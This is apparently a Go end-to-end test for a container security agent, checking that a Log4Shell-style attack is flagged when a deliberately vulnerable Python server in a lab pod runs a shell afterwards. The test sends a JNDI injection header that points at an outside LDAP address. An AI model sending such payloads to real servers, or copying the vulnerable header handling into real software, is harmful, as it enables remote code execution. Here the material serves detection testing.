// SPDX-License-Identifier: Apache-2.0

package e2e

import (
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/holdfast-project/holdfast/collector/view"
	"github.com/holdfast-project/holdfast/rules/profile"
	"github.com/holdfast-project/holdfast/tests/lab"
	"github.com/holdfast-project/holdfast/tests/rig"
	"github.com/holdfast-project/holdfast/tests/wait"
)

// writeFile puts a text into a new file.
func writeFile(t *testing.T, text string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "file.yaml")
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// victimPolicy lets a container run Python and nothing else.
const victimPolicy = `apiVersion: holdfast.dev/v1alpha1
kind: Profile
metadata: {namespace: shop, kind: Pod, name: victim, container: app}
modes: {process: monitor}
processes:
  - {path: %s, anyArguments: true}
`

// victimProgram is a web server for Python that does what a log library once did: it runs what a header asks for.
const victimProgram = `import http.server, subprocess
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        if "jndi:" in self.headers.get("User-Agent", "") and self.path == "/works":
            subprocess.run(["/bin/sh", "-c", "exit 0"])
        self.send_response(200)
        self.end_headers()
http.server.HTTPServer(("", 8000), Handler).serve_forever()`

// TestAttackThatWorkedIsTold sends a server an attack that does nothing, and one after which the server runs a shell: the
// second is one critical alert.
func TestAttackThatWorkedIsTold(t *testing.T) {
	python, err := filepath.EvalSymlinks("/usr/bin/python3")
	if err != nil {
		t.Fatal(err)
	}
	r := startRig(t, rig.Config{AgentArgs: []string{"--waf-mode", "monitor", "--policy-file", writeFile(t, fmt.Sprintf(victimPolicy, python))}})
	if err := r.Lab.Load(t.Context(), lab.Python); err != nil {
		t.Fatal(err)
	}
	pod := runPod(t, r, lab.PodConfig{Namespace: "shop", Name: "victim"})
	run(t, pod, lab.ContainerConfig{Name: "app", Image: lab.PythonImage, Command: []string{"python3", "-c", victimProgram}})
	if err := pod.AwaitPort(t.Context(), 8000); err != nil {
		t.Fatal(err)
	}
	wait.Until(t, time.Minute, func() error { return r.InMode(t.Context(), "shop/victim", "monitor", profile.SignalProcess) })
	client := &http.Client{Transport: &http.Transport{DialContext: r.Lab.DialContext, DisableKeepAlives: true}}
	get := func(path string) {
		t.Helper()
		q, err := http.NewRequestWithContext(t.Context(), http.MethodGet, "http://"+net.JoinHostPort(pod.IPs[0].String(), "8000")+path, nil)
		if err != nil {
			t.Fatal(err)
		}
		q.Header.Set("User-Agent", "${jndi:ldap://203.0.113.66/a}")
		answer, err := client.Do(q)
		if err != nil {
			t.Fatal(err)
		}
		_ = answer.Body.Close()
	}
	alerts := func(rule string) []view.Alert {
		t.Helper()
		list, err := r.Alerts(t.Context(), "--rule", rule)
		if err != nil {
			t.Fatal(err)
		}
		return list
	}
	err = wait.For(t.Context(), time.Minute, func() error {
		get("/")
		if len(alerts("Attack in a request")) == 0 {
			return fmt.Errorf("no attack is told")
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if list := alerts("Attack followed"); len(list) != 0 {
		t.Errorf("an attack that did nothing is told as one that worked: %+v", list)
	}
	get("/works")
	var told []view.Alert
	err = wait.For(t.Context(), time.Minute, func() error {
		if told = alerts("Attack followed"); len(told) == 0 {
			return fmt.Errorf("no alert")
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	a := told[0]
	t.Log(a.Output)
	if len(told) != 1 || !strings.EqualFold(a.Priority, "critical") || a.Finding == nil || a.Finding.Signal != "waf" || a.Finding.Class != "log4shell" ||
		a.Container.Name != "app" || !strings.Contains(a.Output, "exec of ") || strings.Contains(a.Output, "(pid 0)") {
		t.Errorf("%d alerts, the first: %+v, finding %+v", len(told), a, a.Finding)
	}
}
